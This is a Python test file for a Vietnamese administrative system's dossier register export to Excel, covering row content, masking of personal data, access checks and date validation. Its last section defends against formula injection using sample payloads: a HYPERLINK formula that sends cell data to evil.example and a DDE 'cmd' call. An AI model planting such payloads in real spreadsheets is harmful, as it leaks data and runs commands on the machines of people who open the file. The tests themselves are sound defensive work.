"""The dossier register (sổ theo dõi hồ sơ): its lines, who may print it, and bad periods."""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tinhso.core.errors import DomainError, NotFound
from tinhso.onestop.conftest import GOOD_FORM, at, pay_at_counter, submit_online, to_approval, to_review
from tinhso.onestop.dossiers import services as S
from tinhso.onestop.dossiers.register import dossier_register_xlsx, register_dossiers
from tinhso.onestop.models import Dossier

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media")]

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _counter(svc: Any, name: str, phone: str) -> Dossier:
    return S.dossier_receive_at_counter(
        actor=svc.receiver,
        agency=svc.centre,
        procedure=svc.procedure,
        applicant_name=name,
        applicant_personal_id="033095001234",
        applicant_phone=phone,
        form_data=GOOD_FORM,
    )


def _sheet(content: bytes) -> list[list[Any]]:
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


@pytest.fixture
def march(svc: Any, clock: Any) -> dict[str, Dossier]:
    """Three dossiers received by the centre in March 2026 (one returned late), one the day after
    the period, one online filing never received."""
    clock.set(at("2026-02-27", 16))
    _counter(svc, "Trần Văn Trước", "0900000001")  # before the period
    clock.set(at("2026-03-02", 9))
    first = to_review(svc, submit_online(svc, "reg-1"))
    clock.set(at("2026-03-02", 14, 30))
    second = _counter(svc, "Lê Thị Hoa", "0912345678")
    clock.set(at("2026-03-31", 16, 59))
    third = _counter(svc, "Phạm Minh Đức", "0987654321")
    submit_online(svc, "reg-never-received")
    clock.set(at("2026-04-01", 8))
    _counter(svc, "Đỗ Văn Sau", "0900000002")  # after the period
    clock.set(at("2026-03-20", 10))
    first = to_approval(svc, first)
    first = S.dossier_approve(actor=svc.approver, dossier=first)
    pay_at_counter(svc, first)
    first = S.dossier_return_result(actor=svc.receiver, dossier=first)
    assert first.due_at is not None
    assert first.completed_at is not None
    assert first.completed_at > first.due_at
    clock.set(at("2026-04-02", 9))
    return {"first": first, "second": second, "third": third}


def test_the_register_has_a_line_per_dossier_received_in_the_period(svc: Any, march: dict[str, Dossier]) -> None:
    content, name = dossier_register_xlsx(svc.receiver, svc.centre.pk, "2026-03-01", "2026-03-31")
    assert name == "so-theo-doi-ho-so-H31.01-20260301-20260331.xlsx"
    rows = _sheet(content)
    assert rows[0][0] == svc.centre.name.upper()
    assert rows[1][0] == "SỔ THEO DÕI HỒ SƠ"
    assert rows[2][0] == "Hồ sơ tiếp nhận từ ngày 01/03/2026 đến ngày 31/03/2026"
    assert rows[4] == [
        "STT",
        "Mã hồ sơ",
        "Tên thủ tục hành chính",
        "Số lượng hồ sơ (bộ)",
        "Tên cá nhân, tổ chức",
        "Số điện thoại",
        "Cơ quan chủ trì giải quyết",
        "Nhận hồ sơ",
        "Hẹn trả kết quả",
        "Chuyển hồ sơ đến cơ quan giải quyết",
        "Nhận kết quả từ cơ quan giải quyết",
        "Trả kết quả cho cá nhân, tổ chức",
        "Ký nhận",
        "Ghi chú",
    ]
    lines = rows[5:8]
    first, second, third = march["first"], march["second"], march["third"]
    assert [line[1] for line in lines] == [first.code, second.code, third.code]  # received order
    assert [line[0] for line in lines] == [1, 2, 3]
    assert lines[0][2:8] == [svc.procedure.name, 1, "N. V. An", None, svc.stp.name, dt.datetime(2026, 3, 2, 9, 0)]
    assert lines[0][9] == dt.datetime(2026, 3, 2, 9, 0)  # forwarded to Sở Tư pháp
    assert lines[0][10] == lines[0][11] == dt.datetime(2026, 3, 20, 10, 0)  # decided, returned
    assert lines[0][12] is None  # the applicant signs on collection
    assert lines[0][13] == "Đã trả kết quả; quá hạn"
    assert lines[1][4:8] == ["L. T. Hoa", "******5678", svc.centre.name, dt.datetime(2026, 3, 2, 14, 30)]
    assert lines[1][9:12] == [None, None, None]
    assert lines[1][13] == "Đã tiếp nhận; quá hạn"  # still open on 02/04
    assert lines[2][7] == dt.datetime(2026, 3, 31, 16, 59)
    text = " ".join(str(cell) for row in rows for cell in row if cell is not None)
    for secret in ("Trần Văn Trước", "Đỗ Văn Sau", "Lê Thị Hoa", "0912345678", "033095001234"):
        assert secret not in text
    assert rows[-1][0] == (
        "Tổng số: 3 hồ sơ. Họ tên và số điện thoại người nộp được che một phần; xem đầy đủ trên trang hồ sơ."
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["H6"].number_format == "dd/mm/yyyy hh:mm"
    assert sheet.print_title_rows == "$5:$5"


def test_only_agencies_in_reach_and_the_same_answer_for_one_that_does_not_exist(
    svc: Any, march: dict[str, Dossier]
) -> None:
    for person, agency in (
        (svc.sct_officer, svc.centre.pk),
        (svc.citizen, svc.centre.pk),
        (svc.receiver, 999_999),
        (svc.receiver, "abc"),
        (svc.receiver, None),
    ):
        with pytest.raises(NotFound, match=r"Không tìm thấy cơ quan\."):
            register_dossiers(person, agency, "2026-03-01", "2026-03-31")
    # Sở Tư pháp's own register: it received none of them.
    _agency, _start, _end, dossiers = register_dossiers(svc.approver, svc.stp.pk, "2026-03-01", "2026-03-31")
    assert list(dossiers) == []


@pytest.mark.parametrize(
    ("first", "last", "message"),
    [
        ("31/13/2026", "2026-03-31", "Từ ngày phải là ngày hợp lệ, dạng ngày/tháng/năm"),
        ("2026/03/01", "2026-03-31", "Từ ngày phải là ngày hợp lệ"),
        ("2026-03-01", "", "Đến ngày phải là ngày hợp lệ"),
        ("2026-03-31", "2026-03-01", "Đến ngày phải sau hoặc bằng từ ngày."),
        ("2025-01-01", "2026-03-31", "Mỗi sổ theo dõi lấy tối đa 366 ngày"),
    ],
)
def test_a_bad_period_is_refused_with_the_reason(svc: Any, first: str, last: str, message: str) -> None:
    with pytest.raises(DomainError, match=message):
        register_dossiers(svc.receiver, svc.centre.pk, first, last)


def test_a_period_is_typed_as_dd_mm_yyyy_or_iso(svc: Any) -> None:
    _agency, start, end, _dossiers = register_dossiers(svc.receiver, svc.centre.pk, "1/3/2026", "2026-03-31")
    assert (start, end) == (dt.date(2026, 3, 1), dt.date(2026, 3, 31))


def _client(person: Any) -> Client:
    client = Client()
    client.force_login(person)
    return client


def test_the_officer_page_gives_the_file_or_says_what_is_wrong(svc: Any, march: dict[str, Dossier]) -> None:
    client = _client(svc.receiver)
    url = reverse("officer:register")
    page = client.get(url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "Sổ theo dõi hồ sơ" in html
    assert f'<option value="{svc.centre.pk}" selected>' in html
    assert 'value="01/04/2026"' in html  # dd/mm/yyyy, typed the same way
    assert 'value="02/04/2026"' in html
    assert 'placeholder="dd/mm/yyyy"' in html
    assert 'type="date"' not in html
    download = client.get(url, {"agency": svc.centre.pk, "from": "01/03/2026", "to": "31/03/2026"})
    assert download.status_code == 200
    assert download["Content-Type"] == XLSX
    assert download["Content-Disposition"] == 'attachment; filename="so-theo-doi-ho-so-H31.01-20260301-20260331.xlsx"'
    assert download["Cache-Control"] == "private, no-store"
    assert _sheet(download.content)[5][1] == march["first"].code
    bad = client.get(url, {"agency": svc.centre.pk, "from": "2026-03-31", "to": "2026-03-01"})
    assert bad.status_code == 400
    assert "Đến ngày phải sau hoặc bằng từ ngày." in bad.content.decode()
    assert (
        _client(svc.sct_officer)
        .get(url, {"agency": svc.centre.pk, "from": "2026-03-01", "to": "2026-03-31"})
        .status_code
        == 404
    )
    assert _client(svc.citizen).get(url).status_code == 404


def test_the_api_gives_the_same_register(svc: Any, march: dict[str, Dossier]) -> None:
    url = "/api/services/register.xlsx"
    response = _client(svc.receiver).get(url, {"agency": svc.centre.pk, "from": "2026-03-01", "to": "2026-03-31"})
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert [row[1] for row in _sheet(response.content)[5:8]] == [
        march[key].code for key in ("first", "second", "third")
    ]
    bad = _client(svc.receiver).get(url, {"agency": svc.centre.pk, "from": "2026-13-01", "to": "2026-03-31"})
    assert bad.status_code == 400
    assert bad.json()["detail"].startswith("Từ ngày phải là ngày hợp lệ")
    hidden = _client(svc.sct_officer).get(url, {"agency": svc.centre.pk, "from": "2026-03-01", "to": "2026-03-31"})
    missing = _client(svc.sct_officer).get(url, {"agency": "999999", "from": "2026-03-01", "to": "2026-03-31"})
    assert hidden.status_code == missing.status_code == 404
    assert hidden.json() == missing.json()


# --- user text stays text (formula injection) ---------------------------------------------------

EVIL_PROCEDURE = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
EVIL_NAMES = ["=cmd|' /C calc'!A0 Văn An", "+84 Thị Hoa", "-2+3 Minh", "@SUM(1;2) Đức"]


@pytest.fixture
def hostile(svc: Any, clock: Any) -> bytes:
    """The centre's register of a day on which every applicant's name and the procedure's name
    start with what a spreadsheet evaluates."""
    from tinhso.onestop.models import Procedure

    Procedure.objects.filter(pk=svc.procedure.pk).update(name=EVIL_PROCEDURE)
    svc.procedure.refresh_from_db()
    clock.set(at("2026-03-02", 9))
    for index, name in enumerate(EVIL_NAMES):
        _counter(svc, name, f"09000000{index:02d}")
    content, _name = dossier_register_xlsx(svc.receiver, svc.centre.pk, "2026-03-02", "2026-03-02")
    return content


def test_names_that_look_like_formulas_are_written_as_text(hostile: bytes) -> None:
    from tinhso.core.privacy import mask_name

    sheet = load_workbook(io.BytesIO(hostile)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    lines = [row for row in sheet.iter_rows(min_row=6, max_row=5 + len(EVIL_NAMES))]
    assert [line[2].value for line in lines] == [EVIL_PROCEDURE] * len(EVIL_NAMES)
    assert [line[4].value for line in lines] == [mask_name(name) for name in EVIL_NAMES]
    assert [line[4].value[0] for line in lines] == ["=", "+", "-", "@"]
    assert all(line[2].quotePrefix and line[4].quotePrefix for line in lines)
    assert lines[0][2].font.name == "Times New Roman"  # the styling of the line is kept


def test_libreoffice_reads_the_formula_like_names_as_text(hostile: bytes, tmp_path: Path) -> None:
    """A real spreadsheet application opens the register and saves it as CSV: the cells hold the
    literal text, not the result of a formula."""
    import csv
    import shutil

    from tinhso.core.documents import run_in_own_group

    binary = shutil.which("soffice") or shutil.which("libreoffice")
    if binary is None or not (Path(binary).resolve().parent / "libsclo.so").is_file():
        pytest.skip("LibreOffice Calc is not installed (libreoffice-calc-nogui)")
    (tmp_path / "so.xlsx").write_bytes(hostile)
    returncode, output = run_in_own_group(
        [
            binary,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--norestore",
            "--nolockcheck",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "so.xlsx"),
        ],
        timeout=120,
        cwd=tmp_path,
    )
    assert returncode == 0, output
    rows = list(csv.reader((tmp_path / "so.csv").read_text(encoding="utf-8").splitlines()))
    lines = rows[5 : 5 + len(EVIL_NAMES)]
    assert [line[2] for line in lines] == [EVIL_PROCEDURE] * len(EVIL_NAMES)
    assert [line[4][:2] for line in lines] == ["=.", "+.", "-.", "@."]
